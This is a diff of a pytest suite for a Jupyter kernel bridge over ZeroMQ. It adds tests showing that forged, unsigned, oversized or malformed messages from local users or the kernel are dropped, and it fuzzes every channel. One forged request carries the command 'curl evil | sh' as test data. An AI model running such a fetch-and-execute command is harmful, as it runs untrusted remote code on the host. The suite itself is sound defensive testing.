@@ -1,17 +1,27 @@
-"""KernelBridge between real pyzmq sockets: a fake kernel on ipc://, clients on tcp://127.0.0.1."""
+"""KernelBridge between real pyzmq sockets: a fake kernel on ipc://, clients on tcp or ipc.
+
+Messages are real signed Jupyter messages (jupyter_client's Session); the attacks are
+sent the way a local user without the key, or code in the kernel, would send them.
+"""
 
 from __future__ import annotations
 
+import errno
+import os
+import random
 import time
 from collections.abc import Iterator
 from pathlib import Path
+from typing import Any
 
 import pytest
 import zmq
+from jupyter_client.session import Session
 
-from sandbox_kernel.bridge import CHANNELS, CurveKeys, KernelBridge
+from sandbox_kernel.bridge import CHANNELS, CurveKeys, KernelBridge, SizeCaps
 
 TIMEOUT_MS = 1000
+KEY = b"a-session-key"
 
 #: Socket type of each channel in the fake kernel, as ipykernel binds them.
 KERNEL_SOCKET_TYPES = {
@@ -22,21 +32,30 @@ KERNEL_SOCKET_TYPES = {
     "hb": zmq.ROUTER,
 }
 
+Ctx = zmq.Context[zmq.Socket[bytes]]
+
 
 @pytest.fixture
-def ctx() -> Iterator[zmq.Context[zmq.Socket[bytes]]]:
-    context: zmq.Context[zmq.Socket[bytes]] = zmq.Context()
+def ctx() -> Iterator[Ctx]:
+    context: Ctx = zmq.Context()
     yield context
     context.destroy(linger=0)
 
 
 @pytest.fixture
-def kernel(ctx: zmq.Context[zmq.Socket[bytes]], tmp_path: Path) -> dict[str, zmq.Socket[bytes]]:
+def session() -> Session:
+    return Session(key=KEY)
+
+
+@pytest.fixture
+def kernel(ctx: Ctx, tmp_path: Path) -> dict[str, zmq.Socket[bytes]]:
     """The fake kernel: one socket per channel, bound where the bridge will connect."""
     sockets = {}
     for channel, kind in KERNEL_SOCKET_TYPES.items():
         sock = ctx.socket(kind)
         sock.linger = 0
+        if kind == zmq.ROUTER and channel != "hb":
+            sock.router_handover = 1  # as ipykernel sets it
         sock.bind(f"ipc://{tmp_path}/{channel}")
         sockets[channel] = sock
     return sockets
@@ -47,23 +66,36 @@ def endpoints(tmp_path: Path) -> dict[str, str]:
     return {channel: f"ipc://{tmp_path}/{channel}" for channel in CHANNELS}
 
 
+class Tap:
+    def __init__(self) -> None:
+        self.seen: list[tuple[str, bool]] = []
+
+    def __call__(self, channel: str, to_kernel: bool, frames: Any) -> None:
+        self.seen.append((channel, to_kernel))
+
+
 @pytest.fixture
-def bridge(endpoints: dict[str, str], kernel: dict[str, zmq.Socket[bytes]]) -> Iterator[KernelBridge]:
-    bridge = KernelBridge(endpoints)
+def tap() -> Tap:
+    return Tap()
+
+
+@pytest.fixture
+def bridge(
+    endpoints: dict[str, str], kernel: dict[str, zmq.Socket[bytes]], tap: Tap
+) -> Iterator[KernelBridge]:
+    bridge = KernelBridge(endpoints, key=KEY, tap=tap)
     bridge.start()
     yield bridge
     bridge.stop()
 
 
-def client(
-    ctx: zmq.Context[zmq.Socket[bytes]], kind: int, port: int, curve_server_key: bytes | None = None
-) -> zmq.Socket[bytes]:
+def client(ctx: Ctx, kind: int, address: str, curve_server_key: bytes | None = None) -> zmq.Socket[bytes]:
     sock = ctx.socket(kind)
     sock.linger = 0
     if curve_server_key is not None:
         sock.curve_publickey, sock.curve_secretkey = zmq.curve_keypair()
         sock.curve_serverkey = curve_server_key
-    sock.connect(f"tcp://127.0.0.1:{port}")
+    sock.connect(address)
     return sock
 
 
@@ -73,23 +105,33 @@ def recv(sock: zmq.Socket[bytes], timeout_ms: int = TIMEOUT_MS) -> list[bytes]:
     return sock.recv_multipart()
 
 
-def round_trip(
-    ctx: zmq.Context[zmq.Socket[bytes]],
-    kernel: zmq.Socket[bytes],
-    port: int,
-    request: list[bytes],
-    curve_server_key: bytes | None = None,
-) -> tuple[list[bytes], list[bytes]]:
-    """A client DEALER sends ``request``; the kernel ROUTER answers it with its frames reversed.
+def request(session: Session, msg_type: str = "kernel_info_request", **content: Any) -> list[bytes]:
+    return list(session.serialize(session.msg(msg_type, content)))
 
-    Returns (what the kernel received, what the client received back).
-    """
-    dealer = client(ctx, zmq.DEALER, port, curve_server_key)
-    dealer.send_multipart(request)
-    received = recv(kernel)
-    routing, body = received[: -len(request)], received[-len(request) :]
-    kernel.send_multipart([*routing, *reversed(body)])
-    return received, recv(dealer)
+
+def answer(session: Session, kernel: zmq.Socket[bytes], received: list[bytes]) -> list[bytes]:
+    """The fake kernel answers ``received`` (routing frames kept) with a signed reply."""
+    idents, msg = session.feed_identities(received)
+    parent = session.deserialize(msg)
+    reply = session.msg(parent["msg_type"].replace("_request", "_reply"), {"status": "ok"}, parent=parent)
+    frames = list(session.serialize(reply, ident=idents))
+    kernel.send_multipart(frames)
+    return frames
+
+
+def round_trip(
+    ctx: Ctx,
+    session: Session,
+    kernel: zmq.Socket[bytes],
+    address: str,
+    curve_server_key: bytes | None = None,
+) -> dict[str, Any]:
+    """A client sends a signed request; the kernel answers; returns the reply the client got."""
+    dealer = client(ctx, zmq.DEALER, address, curve_server_key)
+    dealer.send_multipart(request(session))
+    answer(session, kernel, recv(kernel))
+    _, msg = session.feed_identities(recv(dealer))
+    return session.deserialize(msg)
 
 
 def test_the_bridge_listens_on_five_localhost_ports(bridge: KernelBridge) -> None:
@@ -99,65 +141,337 @@ def test_the_bridge_listens_on_five_localhost_ports(bridge: KernelBridge) -> Non
     assert bridge.ip == "127.0.0.1"
 
 
-@pytest.mark.parametrize("channel", ["shell", "control", "stdin"])
-def test_a_request_and_its_reply_cross_the_bridge(
-    ctx: zmq.Context[zmq.Socket[bytes]],
-    kernel: dict[str, zmq.Socket[bytes]],
-    bridge: KernelBridge,
-    channel: str,
+@pytest.mark.parametrize("channel", ["shell", "control"])
+def test_a_signed_request_and_its_reply_cross_the_bridge(
+    ctx: Ctx, session: Session, kernel: dict[str, zmq.Socket[bytes]], bridge: KernelBridge, channel: str
 ) -> None:
-    received, reply = round_trip(
-        ctx, kernel[channel], bridge.ports[channel], [b"<IDS|MSG>", b"execute_request"]
-    )
-    assert received[-2:] == [b"<IDS|MSG>", b"execute_request"]
-    assert reply == [b"execute_request", b"<IDS|MSG>"]
+    reply = round_trip(ctx, session, kernel[channel], bridge.endpoint(channel))
+    assert reply["msg_type"] == "kernel_info_reply"
     assert bridge.messages[channel] == 2
+    assert not bridge.dropped
 
 
 def test_stdin_reaches_the_kernel_from_the_same_peer_as_shell(
-    ctx: zmq.Context[zmq.Socket[bytes]], kernel: dict[str, zmq.Socket[bytes]], bridge: KernelBridge
+    ctx: Ctx, session: Session, kernel: dict[str, zmq.Socket[bytes]], bridge: KernelBridge
 ) -> None:
     """ipykernel sends input_request to the identity the shell request came from."""
-    shell_seen, _ = round_trip(ctx, kernel["shell"], bridge.ports["shell"], [b"msg"])
-    stdin_seen, _ = round_trip(ctx, kernel["stdin"], bridge.ports["stdin"], [b"msg"])
-    assert shell_seen[0] == stdin_seen[0]
+    shell, stdin = (
+        client(ctx, zmq.DEALER, bridge.endpoint("shell")),
+        client(ctx, zmq.DEALER, bridge.endpoint("stdin")),
+    )
+    shell.send_multipart(request(session))
+    stdin.send_multipart(request(session, "input_reply"))
+    assert recv(kernel["shell"])[0] == recv(kernel["stdin"])[0]
 
 
-def test_heartbeats_are_echoed(
-    ctx: zmq.Context[zmq.Socket[bytes]], kernel: dict[str, zmq.Socket[bytes]], bridge: KernelBridge
-) -> None:
-    req = client(ctx, zmq.REQ, bridge.ports["hb"])
+def test_heartbeats_are_echoed(ctx: Ctx, kernel: dict[str, zmq.Socket[bytes]], bridge: KernelBridge) -> None:
+    req = client(ctx, zmq.REQ, bridge.endpoint("hb"))
     req.send(b"ping")
     kernel["hb"].send_multipart(recv(kernel["hb"]))  # the kernel's heartbeat echoes
     assert recv(req) == [b"ping"]
 
 
-def test_published_iopub_messages_reach_a_subscriber(
-    ctx: zmq.Context[zmq.Socket[bytes]], kernel: dict[str, zmq.Socket[bytes]], bridge: KernelBridge
-) -> None:
-    sub = client(ctx, zmq.SUB, bridge.ports["iopub"])
-    sub.setsockopt(zmq.SUBSCRIBE, b"")
-    # The subscription travels client -> bridge -> kernel asynchronously: publish until it lands.
-    deadline = time.monotonic() + 2
+def publish_until_received(
+    kernel: zmq.Socket[bytes], sub: zmq.Socket[bytes], frames: list[bytes], timeout: float = 2
+) -> list[bytes] | None:
+    """The subscription travels client -> bridge -> kernel asynchronously: publish until it lands."""
+    deadline = time.monotonic() + timeout
     while time.monotonic() < deadline:
-        kernel["iopub"].send_multipart([b"kernel.k1.status", b"busy"])
+        kernel.send_multipart(frames)
         if sub.poll(50):
-            assert sub.recv_multipart() == [b"kernel.k1.status", b"busy"]
-            return
-    raise AssertionError("no iopub message arrived within 2 s")
+            return sub.recv_multipart()
+    return None
+
+
+def subscriber(ctx: Ctx, bridge: KernelBridge) -> zmq.Socket[bytes]:
+    sub = client(ctx, zmq.SUB, bridge.endpoint("iopub"))
+    sub.setsockopt(zmq.SUBSCRIBE, b"")
+    return sub
+
+
+def status(session: Session, state: str = "busy", **extra: Any) -> list[bytes]:
+    msg = session.msg("status", {"execution_state": state, **extra})
+    return list(session.serialize(msg, ident=[b"kernel.k1.status"]))
+
+
+def test_signed_iopub_messages_reach_a_subscriber(
+    ctx: Ctx, session: Session, kernel: dict[str, zmq.Socket[bytes]], bridge: KernelBridge
+) -> None:
+    got = publish_until_received(kernel["iopub"], subscriber(ctx, bridge), status(session))
+    assert got is not None
+    assert session.deserialize(session.feed_identities(got)[1])["content"] == {"execution_state": "busy"}
+
+
+# ---------------------------------------------------------------- attacks from local users
+
+
+def test_an_unsigned_request_acts_on_nothing(
+    ctx: Ctx, kernel: dict[str, zmq.Socket[bytes]], bridge: KernelBridge, tap: Tap
+) -> None:
+    """A local user without the key forges an execute_request: it never reaches the kernel,
+    the audit log (the tap), the output budget or the idle clock."""
+    forger = Session(key=b"")  # what an attacker without the key can do
+    forged = forger.msg("execute_request", {"code": "curl evil | sh"})
+    forged["header"]["username"] = "alice"
+    dealer = client(ctx, zmq.DEALER, bridge.endpoint("shell"))
+    dealer.send_multipart(list(forger.serialize(forged)))
+    wrong_key = Session(key=b"guessed")
+    dealer.send_multipart(list(wrong_key.serialize(wrong_key.msg("execute_request", {"code": "x"}))))
+    dealer.send_multipart([b"<IDS|MSG>", b"", b"{}", b"{}", b"{}", b"{}"])
+    assert not kernel["shell"].poll(300)
+    assert tap.seen == []
+    assert bridge.dropped["shell message from a client: bad signature"] == 3
+    assert bridge.last_request == float("-inf")
+
+
+def test_a_huge_unsigned_message_is_cut_off_unread(
+    ctx: Ctx, session: Session, kernel: dict[str, zmq.Socket[bytes]], endpoints: dict[str, str]
+) -> None:
+    caps = SizeCaps(client=1024 * 1024)
+    bridge = KernelBridge(endpoints, key=KEY, caps=caps)
+    bridge.start()
+    try:
+        dealer = client(ctx, zmq.DEALER, bridge.endpoint("shell"))
+        dealer.send_multipart([b"<IDS|MSG>", b"", b"{}", b"{}", b"{}", b"x" * (2 * 1024 * 1024)])
+        assert not kernel["shell"].poll(300)
+        # The bridge still serves everyone else.
+        assert (
+            round_trip(ctx, session, kernel["shell"], bridge.endpoint("shell"))["msg_type"]
+            == "kernel_info_reply"
+        )
+    finally:
+        bridge.stop()
+
+
+def test_by_default_clients_connect_over_ipc_in_a_private_folder(
+    ctx: Ctx,
+    session: Session,
+    kernel: dict[str, zmq.Socket[bytes]],
+    endpoints: dict[str, str],
+    tmp_path: Path,
+) -> None:
+    private = tmp_path / "runtime"
+    private.mkdir(mode=0o700)
+    bridge = KernelBridge(endpoints, ip=str(private / "client"), transport="ipc", key=KEY)
+    bridge.start()
+    try:
+        assert bridge.endpoint("shell") == f"ipc://{private}/client-1"
+        assert {p.name for p in private.iterdir()} == {f"client-{n}" for n in range(1, 6)}
+        assert (
+            round_trip(ctx, session, kernel["shell"], bridge.endpoint("shell"))["msg_type"]
+            == "kernel_info_reply"
+        )
+    finally:
+        bridge.stop()
+    assert list(private.iterdir()) == []
+
+
+def test_an_ipc_socket_removed_by_a_restart_is_bound_again(
+    ctx: Ctx,
+    session: Session,
+    kernel: dict[str, zmq.Socket[bytes]],
+    endpoints: dict[str, str],
+    tmp_path: Path,
+) -> None:
+    """jupyter_client's restart removes ipc files (cleanup_ipc_files); the bridge lives on."""
+    bridge = KernelBridge(endpoints, ip=str(tmp_path / "client"), transport="ipc", key=KEY)
+    bridge.start()
+    try:
+        connected = client(ctx, zmq.DEALER, bridge.endpoint("shell"))
+        connected.send_multipart(request(session))
+        answer(session, kernel["shell"], recv(kernel["shell"]))
+        recv(connected)
+        for n in range(1, 6):
+            os.remove(tmp_path / f"client-{n}")
+        bridge.attach(endpoints)  # what a restart does
+        assert (
+            round_trip(ctx, session, kernel["shell"], bridge.endpoint("shell"))["msg_type"]
+            == "kernel_info_reply"
+        )
+        connected.send_multipart(request(session))  # the old connection still works
+        answer(session, kernel["shell"], recv(kernel["shell"]))
+        assert recv(connected)
+    finally:
+        bridge.stop()
+
+
+def test_a_second_bridge_never_takes_a_live_bridges_ipc_socket(
+    endpoints: dict[str, str], kernel: dict[str, zmq.Socket[bytes]], tmp_path: Path
+) -> None:
+    first = KernelBridge(endpoints, ip=str(tmp_path / "client"), transport="ipc", key=KEY)
+    first.start()
+    try:
+        second = KernelBridge(endpoints, ip=str(tmp_path / "client"), transport="ipc", key=KEY)
+        with pytest.raises(zmq.ZMQError) as caught:
+            second.start()
+        assert caught.value.errno == errno.EADDRINUSE
+        assert first.running
+    finally:
+        first.stop()
+
+
+# ---------------------------------------------------------------- attacks from the kernel
+
+
+def test_unsigned_output_from_the_kernel_is_dropped_and_counted(
+    ctx: Ctx, session: Session, kernel: dict[str, zmq.Socket[bytes]], bridge: KernelBridge
+) -> None:
+    sub = subscriber(ctx, bridge)
+    forged = status(Session(key=b"other"))
+    assert publish_until_received(kernel["iopub"], sub, forged, timeout=1) is None
+    assert bridge.dropped["iopub message from the kernel: bad signature"] > 0
+    assert publish_until_received(kernel["iopub"], sub, status(session)) is not None
+
+
+def test_the_kernel_answers_only_requests_a_client_sent_once_and_to_that_client(
+    ctx: Ctx, session: Session, kernel: dict[str, zmq.Socket[bytes]], bridge: KernelBridge
+) -> None:
+    asker = client(ctx, zmq.DEALER, bridge.endpoint("shell"))
+    bystander = client(ctx, zmq.DEALER, bridge.endpoint("shell"))
+    bystander.send_multipart(request(session))
+    bystander_seen = recv(kernel["shell"])
+    answer(session, kernel["shell"], bystander_seen)
+    recv(bystander)
+
+    asker.send_multipart(request(session, "execute_request", code="spin()"))
+    seen = recv(kernel["shell"])
+    reply = answer(session, kernel["shell"], seen)
+    assert recv(asker)
+    # The same reply again (a forged second reply), and one aimed at the bystander's route.
+    kernel["shell"].send_multipart(reply)
+    kernel["shell"].send_multipart([bystander_seen[0], *reply[1:]])
+    unsolicited = session.msg("execute_reply", {"status": "ok"}, parent=session.msg("execute_request", {}))
+    kernel["shell"].send_multipart(list(session.serialize(unsolicited, ident=[bystander_seen[0]])))
+    assert not asker.poll(300)
+    assert not bystander.poll(100)
+    assert bridge.dropped["shell message from the kernel: reply to no pending request"] == 3
+
+
+def test_a_reply_goes_to_its_requester_whatever_route_the_kernel_names(
+    ctx: Ctx, session: Session, kernel: dict[str, zmq.Socket[bytes]], bridge: KernelBridge
+) -> None:
+    asker = client(ctx, zmq.DEALER, bridge.endpoint("shell"))
+    other = client(ctx, zmq.DEALER, bridge.endpoint("shell"))
+    other.send_multipart(request(session))
+    other_route = recv(kernel["shell"])[0]
+    asker.send_multipart(request(session))
+    _, msg = session.feed_identities(recv(kernel["shell"]))
+    parent = session.deserialize(msg)
+    reply = session.msg("kernel_info_reply", {"status": "ok"}, parent=parent)
+    kernel["shell"].send_multipart(list(session.serialize(reply, ident=[other_route])))
+    assert recv(asker)
+    assert not other.poll(200)
+
+
+def test_a_deeply_nested_header_does_not_stop_the_relay(
+    ctx: Ctx, session: Session, kernel: dict[str, zmq.Socket[bytes]], bridge: KernelBridge
+) -> None:
+    """b"[" * 1005 as a header once raised RecursionError and killed the relay for good."""
+    sub = subscriber(ctx, bridge)
+    nested = [b"kernel.k1.status", b"<IDS|MSG>", b"", b"[" * 100_000, b"{}", b"{}", b"{}"]
+    signed = list(nested)
+    signed[2] = session.sign(nested[3:7])
+    for _ in range(3):
+        kernel["iopub"].send_multipart(signed)
+    assert publish_until_received(kernel["iopub"], sub, status(session)) is not None
+    assert bridge.running
+
+
+def test_a_restart_always_brings_a_working_relay(
+    ctx: Ctx, session: Session, kernel: dict[str, zmq.Socket[bytes]], endpoints: dict[str, str]
+) -> None:
+    bridge = KernelBridge(endpoints, key=KEY)
+    bridge.start()
+    try:
+        for _ in range(5):
+            bridge.detach()
+            bridge.detach()  # a stop sent to no thread must not end the next one
+            bridge.attach(endpoints)
+            assert bridge.running
+        assert (
+            round_trip(ctx, session, kernel["shell"], bridge.endpoint("shell"))["msg_type"]
+            == "kernel_info_reply"
+        )
+    finally:
+        bridge.stop()
+
+
+def fuzz_frames(rng: random.Random, session: Session) -> list[bytes]:
+    """Random, truncated, nested, huge or non-UTF-8 frames, sometimes validly signed."""
+    kind = rng.randrange(8)
+    if kind == 0:
+        return [rng.randbytes(rng.randrange(0, 64)) for _ in range(rng.randrange(1, 9))]
+    if kind == 1:
+        return [b"<IDS|MSG>"] * rng.randrange(1, 9)
+    if kind == 2:
+        return [b"<IDS|MSG>", b"", b"[" * rng.randrange(900, 5000), b"{}", b"{}", b"{}"]
+    if kind == 3:
+        return [b"<IDS|MSG>", b"", b"\xff\xfe" * 50, b"\x80", b"{", b"}"]
+    if kind == 4:
+        return [b"<IDS|MSG>", b"", b"x" * rng.randrange(100_000, 2_000_000), b"{}", b"{}", b"{}"]
+    message = list(session.serialize(session.msg("execute_request", {"code": "1"})))
+    if kind == 5:
+        return message[: rng.randrange(1, len(message))]
+    if kind == 6:  # validly signed garbage
+        body = [rng.choice([b"[", b"{}", b"null", b"\xff", b'{"msg_id": 5}', b"[]" * 600]) for _ in range(4)]
+        return [b"<IDS|MSG>", session.sign(body), *body, rng.randbytes(10)]
+    return [b"topic", *message, rng.randbytes(rng.randrange(0, 10))]
+
+
+def test_fuzz_every_channel_from_both_sides(
+    ctx: Ctx, session: Session, kernel: dict[str, zmq.Socket[bytes]], endpoints: dict[str, str], tap: Tap
+) -> None:
+    bridge = KernelBridge(
+        endpoints, key=KEY, tap=tap, caps=SizeCaps(client=1024 * 1024, kernel_reply=1024 * 1024)
+    )
+    bridge.start()
+    rng = random.Random(8)  # noqa: S311  # repeatable fuzzing, not secrets
+    clients = {
+        "shell": client(ctx, zmq.DEALER, bridge.endpoint("shell")),
+        "control": client(ctx, zmq.DEALER, bridge.endpoint("control")),
+        "stdin": client(ctx, zmq.DEALER, bridge.endpoint("stdin")),
+        "hb": client(ctx, zmq.DEALER, bridge.endpoint("hb")),
+        "iopub": client(ctx, zmq.XSUB, bridge.endpoint("iopub")),
+    }
+    try:
+        for _ in range(400):
+            channel = rng.choice(list(CHANNELS))
+            frames = fuzz_frames(rng, session)
+            if rng.random() < 0.5:
+                clients[channel].send_multipart(frames)
+            elif channel == "iopub":
+                kernel["iopub"].send_multipart(frames)
+            elif KERNEL_SOCKET_TYPES[channel] == zmq.ROUTER:
+                kernel[channel].send_multipart([b"sandbox-kernel-bridge", *frames])
+        time.sleep(0.5)
+        assert bridge.running
+        for sock in kernel.values():  # drop what the fuzzing delivered
+            while sock.poll(10):
+                sock.recv_multipart()
+        for channel in ("shell", "control"):
+            assert (
+                round_trip(ctx, session, kernel[channel], bridge.endpoint(channel))["msg_type"]
+                == "kernel_info_reply"
+            )
+        assert publish_until_received(kernel["iopub"], subscriber(ctx, bridge), status(session)) is not None
+    finally:
+        bridge.stop()
+
+
+# ---------------------------------------------------------------- lifecycle
 
 
 def test_stop_frees_the_ports_and_a_new_bridge_reuses_them(
-    ctx: zmq.Context[zmq.Socket[bytes]], endpoints: dict[str, str], kernel: dict[str, zmq.Socket[bytes]]
+    ctx: Ctx, session: Session, endpoints: dict[str, str], kernel: dict[str, zmq.Socket[bytes]]
 ) -> None:
-    first = KernelBridge(endpoints)
+    first = KernelBridge(endpoints, key=KEY)
     ports = dict(first.start())
     first.stop()
     assert not first.running
 
     # Free as soon as stop() returns. The probe has a context of its own: terminating it
     # releases the ports again before the next bridge binds them.
-    probe: zmq.Context[zmq.Socket[bytes]] = zmq.Context()
+    probe: Ctx = zmq.Context()
     try:
         for port in ports.values():
             probe.socket(zmq.ROUTER).bind(f"tcp://127.0.0.1:{port}")
@@ -168,11 +482,13 @@ def test_stop_frees_the_ports_and_a_new_bridge_reuses_them(
     # old bridge's peer; until then it would refuse a new peer with the same identity.
     assert not kernel["shell"].poll(100)
 
-    second = KernelBridge(endpoints, ports=ports)
+    second = KernelBridge(endpoints, ports=ports, key=KEY)
     try:
         assert second.start() == ports
-        _, reply = round_trip(ctx, kernel["shell"], ports["shell"], [b"again"])
-        assert reply == [b"again"]
+        assert (
+            round_trip(ctx, session, kernel["shell"], second.endpoint("shell"))["msg_type"]
+            == "kernel_info_reply"
+        )
     finally:
         second.stop()
 
@@ -181,9 +497,7 @@ def test_start_twice_returns_the_same_ports(bridge: KernelBridge) -> None:
     assert bridge.start() == bridge.ports
 
 
-def test_a_taken_port_fails_start_and_leaves_nothing_bound(
-    ctx: zmq.Context[zmq.Socket[bytes]], endpoints: dict[str, str]
-) -> None:
+def test_a_taken_port_fails_start_and_leaves_nothing_bound(ctx: Ctx, endpoints: dict[str, str]) -> None:
     squatter = ctx.socket(zmq.ROUTER)
     squatter.linger = 0
     port = squatter.bind_to_random_port("tcp://127.0.0.1")
@@ -196,17 +510,54 @@ def test_a_taken_port_fails_start_and_leaves_nothing_bound(
 
 @pytest.mark.skipif(not zmq.has("curve"), reason="libzmq built without CurveZMQ")
 def test_with_curve_only_encrypted_clients_get_through(
-    ctx: zmq.Context[zmq.Socket[bytes]], endpoints: dict[str, str], kernel: dict[str, zmq.Socket[bytes]]
+    ctx: Ctx, session: Session, endpoints: dict[str, str], kernel: dict[str, zmq.Socket[bytes]]
 ) -> None:
     public, secret = zmq.curve_keypair()
-    bridge = KernelBridge(endpoints, curve=CurveKeys(public=public, secret=secret))
-    ports = bridge.start()
+    bridge = KernelBridge(endpoints, curve=CurveKeys(public=public, secret=secret), key=KEY)
+    bridge.start()
     try:
-        _, reply = round_trip(ctx, kernel["shell"], ports["shell"], [b"sealed"], curve_server_key=public)
-        assert reply == [b"sealed"]
+        reply = round_trip(ctx, session, kernel["shell"], bridge.endpoint("shell"), curve_server_key=public)
+        assert reply["msg_type"] == "kernel_info_reply"
 
-        plain = client(ctx, zmq.DEALER, ports["shell"])
-        plain.send_multipart([b"plaintext"])
+        plain = client(ctx, zmq.DEALER, bridge.endpoint("shell"))
+        plain.send_multipart(request(session))
         assert not kernel["shell"].poll(200)
     finally:
         bridge.stop()
+
+
+def test_a_kernel_cut_off_for_an_oversized_frame_is_reconnected(
+    ctx: Ctx, session: Session, kernel: dict[str, zmq.Socket[bytes]], endpoints: dict[str, str]
+) -> None:
+    """ZeroMQ never reconnects a peer it cut off for MAXMSGSIZE: the bridge must, or one big
+    display would silence the kernel's output until a restart."""
+    bridge = KernelBridge(endpoints, key=KEY, caps=SizeCaps(kernel_iopub=64 * 1024, kernel_reply=64 * 1024))
+    bridge.start()
+    try:
+        sub = subscriber(ctx, bridge)
+        assert publish_until_received(kernel["iopub"], sub, status(session)) is not None
+        kernel["iopub"].send_multipart(status(session, padding="x" * 100_000))
+        shell = client(ctx, zmq.DEALER, bridge.endpoint("shell"))
+        shell.send_multipart(request(session))
+        seen = recv(kernel["shell"])
+        idents, msg = session.feed_identities(seen)
+        big = session.msg("kernel_info_reply", {"padding": "x" * 100_000}, parent=session.deserialize(msg))
+        kernel["shell"].send_multipart(list(session.serialize(big, ident=idents)))
+        assert not shell.poll(300)
+        time.sleep(0.3)
+        while sub.poll(10):
+            sub.recv_multipart()
+        assert publish_until_received(kernel["iopub"], sub, status(session, "idle")) is not None
+        assert (
+            round_trip(ctx, session, kernel["shell"], bridge.endpoint("shell"))["msg_type"]
+            == "kernel_info_reply"
+        )
+    finally:
+        bridge.stop()
+
+
+def test_wire_parsing_never_raises_on_nesting() -> None:
+    from sandbox_kernel.wire import load_dict
+
+    assert load_dict(b"[" * 100_000, limit=None) == {}
+    assert load_dict(b'{"a": ' * 5000, limit=None) == {}
